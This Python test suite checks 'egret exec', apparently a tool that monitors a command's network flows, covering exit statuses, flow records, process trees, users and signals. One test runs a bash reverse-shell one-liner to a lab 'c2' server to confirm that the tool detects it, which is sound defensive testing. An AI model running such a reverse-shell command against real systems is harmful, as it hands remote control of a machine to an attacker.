#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""`egret exec`: exit status, records, the table, and that nothing of it stays behind."""
import json
import os
import shutil
import signal
import subprocess
import sys

import lab
from lab import EGRET, S4, ZONE

CASES = lab.golden.Cases()


def cgroups(pid):
    """Of one `egret exec`: other tests run their own at the same time."""
    return {os.path.join(d, x) for d, dirs, _ in os.walk(lab.cgroup2_mount()) for x in dirs if x == f"egret-exec-{pid}"}


def egret_exec(n, *argv, **kw):
    """egret exec in the client namespace; (exit status, all output, records)."""
    path = os.path.join(n.tmp, "exec.json")
    if os.path.exists(path):
        os.unlink(path)
    child = n._popen([EGRET, "exec", "--json", path, *argv], n.client, None, stdin=subprocess.DEVNULL,
                     stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    out, _ = child.communicate(timeout=kw.get("timeout", 40))
    if cgroups(child.pid):
        CASES.check("no cgroup is left", False, argv, cgroups(child.pid))
    records = []
    if os.path.exists(path):
        with open(path, encoding="utf-8") as f:
            records = [json.loads(line) for line in f]
    return child.returncode, out.decode("utf-8", "replace"), records


def statuses(n):
    for name, command, want in (("true", ["true"], 0), ("false", ["false"], 1), ("exit 42", ["sh", "-c", "exit 42"], 42),
                                ("killed", ["sh", "-c", "kill -9 $$"], 137),
                                ("not there", ["/nonexistent/program"], 127),
                                ("not executable", ["/etc/passwd"], 126)):
        CASES.equal(f"exit status: {name}", egret_exec(n, "--", *command)[0], want)
    CASES.equal("wrong option", subprocess.run([EGRET, "exec", "--wrong"], capture_output=True).returncode, 2)
    CASES.equal("no command", subprocess.run([EGRET, "exec"], capture_output=True).returncode, 2)
    status, out, records = egret_exec(n, "--", "true")
    CASES.check("nothing contacted: says so", "nothing" in out and not [r for r in records
                                                                      if r["event_type"] == "flow"], out)


def curl(n):
    status, out, records = egret_exec(n, "--", "curl", "-sk", "-4", f"https://www.{ZONE}/")
    CASES.equal("curl: exit status", status, 0)
    CASES.check("curl: its own output comes through", "hello" in out, out)
    CASES.check("curl: the table has program, name, source, port, protocol",
                all(x in out for x in ("curl", f"www.{ZONE}", "sni", "443", "tls", S4)), out)
    flows = lab.last_flows(records)
    tls = [r for r in flows if r.get("dest_port") == 443]
    CASES.check("curl: one TLS flow, named, ended by FIN", len(tls) == 1 and
                tls[0]["egret"]["name"] == f"www.{ZONE}" and tls[0]["flow"]["reason"] == "tcp_fin" and
                tls[0]["process"]["executable"] == "/usr/bin/curl", tls)
    dns = [r for r in flows if r.get("dest_port") == 53]
    CASES.check("curl: its look-ups", dns and all(r["app_proto"] == "dns" and
                                                 r["process"]["executable"] == "/usr/bin/curl" for r in dns), dns)
    CASES.check("curl: every flow has a program", all(r.get("process", {}).get("executable") for r in flows), flows)
    lab.golden.check_schema(CASES, "egret exec", [json.dumps(r).encode() for r in records])


def trees(n):
    script = os.path.join(n.tmp, "tree.sh")
    with open(script, "w", encoding="ascii") as f:
        f.write(f"#!/bin/sh\ncurl -s http://{S4}/ >/dev/null\n"
                f"sh -c 'dig +short @{S4} www.{ZONE} >/dev/null'\n"
                f"python3 -c \"import socket; socket.create_connection(('{S4}',80)).close()\"\n")
    os.chmod(script, 0o755)
    _, _, records = egret_exec(n, "--", script)
    flows = lab.last_flows(records)
    names = sorted(os.path.basename(r["process"]["executable"]) for r in flows)
    CASES.check("a script: each of its programs", len(names) == 3 and names[0] == "curl" and names[1] == "dig" and
                names[2].startswith("python3"), names)
    CASES.check("a script: it is the parent or grandparent of all", all(
        any(a["name"] in ("sh", "dash") for a in r["process"]["ancestors"]) for r in flows),
        [r["process"].get("ancestors") for r in flows])
    if shutil.which("node"):
        code = ("const http=require('http'),dns=require('dns');"
                f"http.get('http://www.{ZONE}/',r=>{{r.resume();r.on('end',()=>process.exit(7))}})")
        status, out, records = egret_exec(n, "--", "node", "-e", code)
        CASES.equal("node: exit status", status, 7)
        web = [r for r in lab.last_flows(records) if r.get("dest_port") == 80]
        CASES.check("node: named, http", len(web) == 1 and web[0]["egret"]["name"] == f"www.{ZONE}" and
                    web[0]["app_proto"] == "http" and
                    web[0]["process"]["executable"] == os.path.realpath(shutil.which("node")), web)
    else:
        CASES.skip("node", "no node here")
    background = f"(sleep 0.3; exec 3<>/dev/tcp/{S4}/80; echo x >&3) & exit 3"
    status, _, records = egret_exec(n, "--wait", "--", "bash", "-c", background)
    CASES.equal("--wait: what was started is waited for", [status, len(lab.last_flows(records))], [3, 1])


def findings(n):
    """A command that opens a reverse shell is told of it, on the terminal and in the records; an ordinary one is not."""
    server = n.small_server("c2", 4000)
    status, out, records = egret_exec(n, "--", "bash", "-c", f"bash -i >& /dev/tcp/{S4}/4000 0>&1 & sleep 4; kill -9 $!")
    found = [r["egret"]["finding"] for r in records if r["event_type"] == "alert" and "finding" in r["egret"]]
    CASES.check("findings: a reverse shell, in the records", any(
        f["detector"] == "shell" and f["level"] in ("high", "critical") and f"{S4}:4000" in f["peer"] for f in found), found, out)
    CASES.check("findings: a reverse shell, at the end of the table", f"{S4}:4000" in out and "shell" in out, out)
    n.stop(server)
    _, out, records = egret_exec(n, "--", "curl", "-s", f"http://{S4}/")
    CASES.equal("findings: none of an ordinary command", [r for r in records if r["event_type"] == "alert"], [])


def users(n):
    status, out, records = egret_exec(n, "--user", "nobody", "--", "curl", "-s", f"http://{S4}/")
    flows = lab.last_flows(records)
    CASES.check("--user", status == 0 and len(flows) == 1 and flows[0]["user"]["name"] == "nobody", status, out, flows)
    CASES.equal("--user: no such user", egret_exec(n, "--user", "no-such-user", "--", "true")[0], 126)
    done = subprocess.run(["setpriv", "--reuid=65534", "--clear-groups", EGRET, "exec", "--", "true"],
                          capture_output=True, text=True)
    CASES.check("without rights: says what is missing", done.returncode == 1 and "root" in done.stderr,
                done.returncode, done.stderr)


def signals(n):
    child = n._popen([EGRET, "exec", "--", "sleep", "100"], n.client, None, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    made = lab.wait_for("the command to run", lambda: [c for c in cgroups(child.pid)
                                                       if open(os.path.join(c, "cgroup.procs")).read()])
    child.send_signal(signal.SIGTERM)
    CASES.equal("SIGTERM is handed on", child.wait(10), 128 + signal.SIGTERM)
    CASES.equal("SIGTERM: no cgroup is left", cgroups(child.pid), set())
    CASES.check("the command ran in a cgroup of its own", len(made) == 1, made)


def main():
    lab.need(CASES, "curl", "nginx", "dnsmasq", "dig")
    n = lab.Lab("exe")
    try:
        n.nginx()
        n.dnsmasq()
        for scenario in (statuses, curl, trees, findings, users, signals):
            scenario(n)
    except (RuntimeError, TimeoutError, subprocess.SubprocessError) as e:
        CASES.check("egret exec", False, repr(e))
    finally:
        n.close()
    return CASES.end()


sys.exit(main())
